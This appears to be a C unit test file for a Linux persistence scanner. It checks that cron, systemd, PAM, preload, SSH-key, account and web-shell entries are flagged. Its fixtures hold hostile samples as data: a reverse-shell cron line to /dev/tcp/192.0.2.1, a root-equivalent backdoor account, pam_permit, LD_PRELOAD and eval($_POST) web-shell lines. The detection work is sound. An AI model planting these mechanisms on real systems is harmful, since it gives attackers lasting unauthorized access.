// SPDX-License-Identifier: Apache-2.0
/* What places say, form by form, and which places there are. */
#include "base/buf.h"
#include "disk/persist.h"
#include "unit/disk_tree.h"

static int see(void *arg, const struct persist_item *i, struct err *e)
{
	struct buf *b = arg;

	return buf_text(b, e, "%u:%.*s:%s\n", i->line, (int)i->runs.len,
		i->runs.p, i->reason ? i->reason : "");
}

static void expect(enum place_form form, const char *kind, const char *text,
	const char *want)
{
	const struct place place = { .kind = kind, .form = form };
	AUTO_BUF struct buf b = { 0 };
	struct err e = { 0 };

	buf_init(&b, 4096);
	assert_ok(persist_parse(&place, slice_of(text), see, &b, &e), &e);
	assert_string_equal(buf_string(&b, &e), want);
}

static void test_cron(void **state)
{
	(void)state;
	expect(PLACE_SYSTEM_CRON, "cron",
		"# no\nPATH=/bin\nMAILTO = x\n"
		"17 * * * *\troot  /opt/job --x\n@daily root /opt/day\n"
		"* * * * * root bash -i >& /dev/tcp/192.0.2.1/1\n* * *\n",
		"2::\n3::\n4:/opt/job:\n5:/opt/day:\n"
		"6:bash:a shell opens a connection\n7::\n");
	expect(PLACE_USER_CRON, "cron", "1 2 3 4 5 /x y\n@reboot /dev/shm/.a",
		"1:/x:\n2:/dev/shm/.a:in a directory where anybody may write\n");
}

static void test_unit(void **state)
{
	(void)state;
	expect(PLACE_UNIT, "systemd-unit",
		"[Service]\n;x\nExecStart=-+/usr/bin/a b\n"
		"Environment=LD_PRELOAD=/x.so\nType=simple\n",
		"1::\n3:/usr/bin/a:\n4::loads a library into other programs\n"
		"5::\n");
}

static void test_others(void **state)
{
	(void)state;
	expect(PLACE_PRELOAD, "ld-preload", "/lib/x.so\n",
		"1:/lib/x.so:loaded into every program\n");
	expect(PLACE_PTH, "python-start", "../dir\nimport os; os.system('x')\n",
		"1::\n2::python runs this line at each start\n");
	expect(PLACE_LINES, "pam",
		"auth required pam_unix.so\nauth sufficient pam_permit.so\n"
		"auth optional pam_exec.so /x\n",
		"1::\n2::lets everybody in\n3:/x:PAM runs a program\n");
	expect(PLACE_LINES, "apt-hook", "// c\nDPkg::Post-Invoke {\"x\";};\n",
		"2::installing runs a program\n");
	expect(PLACE_KEYS, "ssh-key", "command=\"/x\" ssh-ed25519 AAAA\n",
		"1::the key runs a program\n");
	/* Of another kind of place it is nothing. */
	expect(PLACE_LINES, "cron", "NOPASSWD\n", "1::\n");
	expect(PLACE_LINES, "sudoers", "NOPASSWD\n",
		"1::rights without a password\n");
	/* Nor with what makes it harmless. */
	expect(PLACE_LINES, "boot-loader",
		"linux /v init=/sbin/init\nlinux /v init=/x\n",
		"1:/v:\n2:/v:the kernel starts another first program\n");
	/* Of an application only what its own kind calls odd. */
	expect(PLACE_CODE, "web-shell",
		"$t = '/tmp/x';\neval($_POST['a']);\n"
		"include('a'); include($_GET['b']);\neval('1');\n",
		"1::\n2::a page runs what it is sent\n"
		"3::a page runs what it is sent\n4::\n");
}

static void test_accounts(void **state)
{
	(void)state;
	expect(PLACE_PASSWD, "account",
		"root:x:0:0::/root:/bin/sh\na:x:00:0::/:/bin/sh\n"
		"b::5:5::/:/bin/sh\nc:x:10:0\nd\n",
		"1::\n2::another user has the rights of root\n"
		"3::no password is asked\n4::\n5::\n");
	expect(PLACE_SHADOW, "account", "root:$y$x:1\na::1\n:x\nb:*:1\nc\n",
		"1::\n2::no password is asked\n3::\n4::\n5::\n");
}

static void test_table(void **state)
{
	size_t n = 0;

	(void)state;
	for (const struct place *p = place_next(NULL); p; p = place_next(p), n++) {
		assert_int_equal(p->technique[0], 'T');
		for (size_t i = 0; p->patterns[i]; i++)
			assert_true(strchr("/{", p->patterns[i][0]));
	}
	assert_true(n > 60);
}

/* PATH LEVEL REASON of whole files. */
static int tell(void *arg, const struct persist_found *f, struct err *e)
{
	struct buf *b = arg;

	if (!f->whole)
		return 0;
	return buf_text(b, e, "%s %d %s\n", f->path, (int)f->level,
		f->reason ? f->reason : "-");
}

static void test_levels(void **state)
{
	static const char *const dirs[] = { "etc/cron.d", "etc/ssh", "tmp",
		"etc/systemd/system", "var/lib/dpkg/info", "usr/share/p" };
	struct disk_target target = { NULL, DISK_ALLOW_WRITABLE };
	struct tree_misses m = { 0 };
	struct picture_config config = { .target = &target,
		.digest = { .threads = 1 },
		.miss = tree_miss,
		.arg = &m };
	AUTO_BUF struct buf b = { 0 };
	char top[SCRATCH_CHARS], at[SCRATCH_CHARS];
	struct picture p;
	struct err e = { 0 };

	(void)state;
	scratch_new(top);
	target.dir = top;
	for (size_t i = 0; i < ARRAY_LEN(dirs); i++)
		tree_mkdir(top, dirs[i]);
	tree_write(top, "var/lib/dpkg/status",
		"Package: p\nStatus: install ok installed\n");
	tree_write(top, "var/lib/dpkg/info/p.list", "/etc/cron.d/own\n");
	tree_write(top, "var/lib/dpkg/info/p.md5sums",
		"9a0364b9e99bb480dd25e1f0284c8555  etc/cron.d/own\n"
		"9a0364b9e99bb480dd25e1f0284c8555  usr/share/p/sshd_config\n");
	tree_write(top, "etc/cron.d/own", "content");
	tree_write(top, "usr/share/p/sshd_config", "content");
	tree_write(top, "etc/ssh/sshd_config", "content");
	tree_write(top, "etc/cron.d/benign", "1 1 1 1 1 root /usr/bin/a\n");
	tree_write(top, "etc/cron.d/bad", "1 1 1 1 1 root /tmp/a\n");
	tree_write(top, "tmp/x.service", "[Service]\nExecStart=/usr/bin/a\n");
	scratch_path(at, top, "etc/systemd/system/x.service");
	assert_int_equal(symlink("/tmp/x.service", at), 0);
	scratch_path(at, top, "etc/systemd/system/masked.service");
	assert_int_equal(symlink("/dev/null", at), 0);
	assert_ok(picture_take(&p, &config, &e), &e);
	buf_init(&b, 4096);
	assert_ok(persist_run(&p, tree_miss, tell, &b, &e), &e);
	assert_string_equal(buf_string(&b, &e),
		"/etc/systemd/system/x.service 2 of no package\n"
		"/etc/cron.d/bad 3 in a directory where anybody may write\n"
		"/etc/cron.d/benign 2 of no package\n"
		"/etc/cron.d/own 0 -\n"
		"/etc/ssh/sshd_config 0 -\n");
	picture_done(&p);
	scratch_remove(top);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_cron),
		cmocka_unit_test(test_unit),
		cmocka_unit_test(test_others),
		cmocka_unit_test(test_accounts),
		cmocka_unit_test(test_table),
		cmocka_unit_test(test_levels),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
